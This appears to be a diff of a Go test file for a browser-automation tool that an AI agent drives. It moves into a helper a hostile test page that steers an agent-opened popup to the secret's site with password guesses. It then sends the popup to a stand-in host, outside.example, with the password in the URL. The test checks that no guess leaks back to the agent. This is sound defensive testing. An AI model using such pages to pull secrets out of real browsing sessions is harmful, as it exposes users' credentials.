@@ -10,6 +10,8 @@ import (
 	"sync/atomic"
 	"testing"
 	"time"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
 )
 
 // A page's URL, and a document load in the logs and the refusal list, are
@@ -133,6 +135,44 @@ setTimeout(() => { location = '` + siteURL + `/?h=` + wrongGuess + `&h=` + passw
 	guessesAlike(t, "network_requests", reqs, "h="+wrongGuess, "h="+password)
 }
 
+// popupSentToTheSiteWithGuesses runs the opener's attack: the hostile page
+// opens a popup on the secret's site (the agent's click on its link), then
+// sends that window to the site with its guesses in the URL (?h=), and,
+// once the test sets stage to 2, to then (when not ""). It returns when
+// list_tabs shows the popup there (tabs).
+func popupSentToTheSiteWithGuesses(t *testing.T, d *httpDaemon, password, then string) (cs *mcp.ClientSession, call func(string, map[string]any) string, site, evil string, stage *atomic.Int32, tabs string) {
+	t.Helper()
+	stage = new(atomic.Int32)
+	var siteURL string
+	site, evil = quietSite(t, func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/stage" {
+			fmt.Fprint(w, stage.Load())
+			return
+		}
+		second := ""
+		if then != "" {
+			second = `if (s === 2 && done < 2) { done = 2; window.open('` + then + `', 'w'); }`
+		}
+		fmt.Fprint(w, `<!doctype html><title>Hostile</title><a id=open href="`+html.EscapeString(siteURL)+`/" target=w>Open</a><script>
+let done = 0;
+setInterval(async () => {
+  const s = Number(await (await fetch('/stage')).text());
+  if (s === 1 && done < 1) { done = 1; window.open('`+siteURL+`/?h=`+wrongGuess+`&h=`+password+`', 'w'); }
+  `+second+`
+}, 100);
+</script>`)
+	})
+	siteURL = site
+	cs = d.connect(t, "alice-token")
+	call = allowedCaller(t, cs)
+	call("navigate", map[string]any{"url": evil + "/"})
+	call("click", map[string]any{"selector": "#open"})
+	untilTab(t, call, `"Site"`)
+	stage.Store(1)
+	tabs = untilTab(t, call, `"Site results"`)
+	return cs, call, site, evil, stage, tabs
+}
+
 // TestAnOpenerThatSendsItsPopupToTheSecretsSiteReadsNoGuess: the hostile
 // page opens a popup on the secret's site (the agent's click), then, on
 // cue, sends that window to the site with its guesses in the URL, and
@@ -145,31 +185,7 @@ func TestAnOpenerThatSendsItsPopupToTheSecretsSiteReadsNoGuess(t *testing.T) {
 	t.Parallel()
 	const password = "Url-Guess-Popup-7723"
 	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, networkLogsManifest, "")
-	var stage atomic.Int32
-	var siteURL string
-	site, evil := quietSite(t, func(w http.ResponseWriter, r *http.Request) {
-		if r.URL.Path == "/stage" {
-			fmt.Fprint(w, stage.Load())
-			return
-		}
-		fmt.Fprint(w, `<!doctype html><title>Hostile</title><a id=open href="`+html.EscapeString(siteURL)+`/" target=w>Open</a><script>
-let done = 0;
-setInterval(async () => {
-  const s = Number(await (await fetch('/stage')).text());
-  if (s === 1 && done < 1) { done = 1; window.open('`+siteURL+`/?h=`+wrongGuess+`&h=`+password+`', 'w'); }
-  if (s === 2 && done < 2) { done = 2; window.open('http://outside.example/?g=`+wrongGuess+`&g=`+password+`', 'w'); }
-}, 100);
-</script>`)
-	})
-	siteURL = site
-	cs := d.connect(t, "alice-token")
-	call := allowedCaller(t, cs)
-	call("navigate", map[string]any{"url": evil + "/"})
-	call("click", map[string]any{"selector": "#open"})
-	untilTab(t, call, `"Site"`)
-
-	stage.Store(1)
-	tabs := untilTab(t, call, `"Site results"`)
+	cs, call, site, _, stage, tabs := popupSentToTheSiteWithGuesses(t, d, password, "http://outside.example/?g="+wrongGuess+"&g="+password)
 	guessesAlike(t, "list_tabs", tabs, "h="+wrongGuess, "h="+password)
 	call("switch_tab", map[string]any{"tab": sessionTab(t, cs, site)})
 	snap := call("snapshot", nil)
